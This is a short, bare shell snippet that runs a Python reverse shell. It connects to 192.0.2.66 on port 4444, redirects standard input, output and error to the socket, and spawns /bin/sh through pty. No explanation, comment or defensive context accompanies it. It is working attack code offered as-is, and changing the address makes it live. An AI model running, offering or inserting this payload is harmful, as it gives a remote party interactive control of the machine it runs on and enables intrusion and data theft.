python3 - <<'EOF'
import socket, os, pty
HOST = "192.0.2.66"
PORT = 4444
s = socket.socket()
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
EOF
